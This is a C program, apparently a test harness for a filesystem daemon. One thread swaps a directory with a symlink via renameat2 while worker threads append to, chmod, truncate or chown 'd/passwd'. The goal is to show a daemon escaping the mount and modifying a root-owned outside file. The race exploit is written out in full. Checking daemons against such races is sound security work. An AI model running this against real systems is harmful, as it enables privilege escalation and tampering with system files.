/* SPDX-License-Identifier: GPL-2.0-or-later */
/*
 * nl_race DIR OP SECONDS: what a hostile user inside a mount tries.
 *
 * DIR/d is a directory holding the user's own file "passwd" (and, for
 * OP copyup, lower files f0..f99), DIR/s a symlink to a directory outside
 * the mount that holds a root-owned "passwd". One thread swaps d and s
 * with renameat2(RENAME_EXCHANGE) while others apply OP to "d/passwd":
 * a daemon that resolves the path string after the swap follows s and
 * changes the outside file as root. Prints how many operations ran.
 *
 * OP: append chmod truncate chown utime setxattr link rename mknod copyup
 */
#include <errno.h>
#include <fcntl.h>
#include <pthread.h>
#include <stdatomic.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/xattr.h>
#include <time.h>
#include <unistd.h>

static const char *dir, *op;
static atomic_bool stop;
static atomic_long done, swaps;

static void path_of(char *buf, size_t len, const char *name)
{
	snprintf(buf, len, "%s/d/%s", dir, name);
}

static void one_op(unsigned long i)
{
	char p[8192], q[4096];
	struct timespec ts[2] = { { 1, 0 }, { 1, 0 } };
	int fd;

	path_of(p, sizeof(p), "passwd");
	if (!strcmp(op, "append")) {
		fd = open(p, O_WRONLY | O_APPEND);
		if (fd >= 0) {
			if (write(fd, "escaped\n", 8) < 0)
				(void)0;
			close(fd);
		}
	} else if (!strcmp(op, "chmod")) {
		chmod(p, i & 1 ? 0666 : 0644);
	} else if (!strcmp(op, "truncate")) {
		truncate(p, 0);
	} else if (!strcmp(op, "chown")) {
		chown(p, -1, getgid());
	} else if (!strcmp(op, "utime")) {
		utimensat(AT_FDCWD, p, ts, 0);
	} else if (!strcmp(op, "setxattr")) {
		setxattr(p, "user.escaped", "1", 1, 0);
	} else if (!strcmp(op, "link")) {
		path_of(q, sizeof(q), "lnk");
		if (link(p, q) == 0)
			unlink(q);
	} else if (!strcmp(op, "rename")) {
		path_of(q, sizeof(q), "moved");
		if (rename(p, q) == 0)
			rename(q, p);
	} else if (!strcmp(op, "mknod")) {
		path_of(q, sizeof(q), "fifo");
		if (mknod(q, S_IFIFO | 0600, 0) == 0)
			unlink(q);
	} else if (!strcmp(op, "copyup")) {
		snprintf(q, sizeof(q), "f%lu", i % 100);
		path_of(p, sizeof(p), q);
		chmod(p, 0600);
	}
	atomic_fetch_add(&done, 1);
}

static void *worker(void *arg)
{
	unsigned long i = (unsigned long)(uintptr_t)arg;

	while (!atomic_load(&stop))
		one_op(i++);
	return NULL;
}

static void *swapper(void *arg)
{
	char d[4096], s[4096];

	(void)arg;
	snprintf(d, sizeof(d), "%s/d", dir);
	snprintf(s, sizeof(s), "%s/s", dir);
	while (!atomic_load(&stop))
		if (renameat2(AT_FDCWD, d, AT_FDCWD, s, RENAME_EXCHANGE) == 0)
			atomic_fetch_add(&swaps, 1);
	return NULL;
}

int main(int argc, char **argv)
{
	pthread_t t[4];
	int i;

	if (argc != 4) {
		fprintf(stderr, "usage: nl_race DIR OP SECONDS\n");
		return 2;
	}
	dir = argv[1];
	op = argv[2];
	pthread_create(&t[0], NULL, swapper, NULL);
	for (i = 1; i < 4; i++)
		pthread_create(&t[i], NULL, worker, (void *)(uintptr_t)(i * 1000));
	usleep((useconds_t)(atof(argv[3]) * 1e6));
	atomic_store(&stop, true);
	for (i = 0; i < 4; i++)
		pthread_join(t[i], NULL);
	printf("%s: %ld operations, %ld swaps\n", op, atomic_load(&done), atomic_load(&swaps));
	return atomic_load(&swaps) > 0 && atomic_load(&done) > 0 ? 0 : 1;
}
